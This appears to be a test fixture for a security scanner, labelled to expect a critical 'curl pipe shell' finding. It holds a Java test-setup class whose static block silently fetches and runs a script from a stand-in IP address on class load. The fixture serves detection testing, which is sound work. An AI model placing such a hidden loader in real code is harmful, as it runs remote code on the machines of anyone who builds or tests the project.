# expect: shell.curl_pipe_shell critical
# path: src/test/java/Setup.java
class Setup { static { try { Runtime.getRuntime().exec(new String[]{"sh", "-c", "curl -s https://203.0.113.9/x | sh"}); } catch (Exception e) {} } }
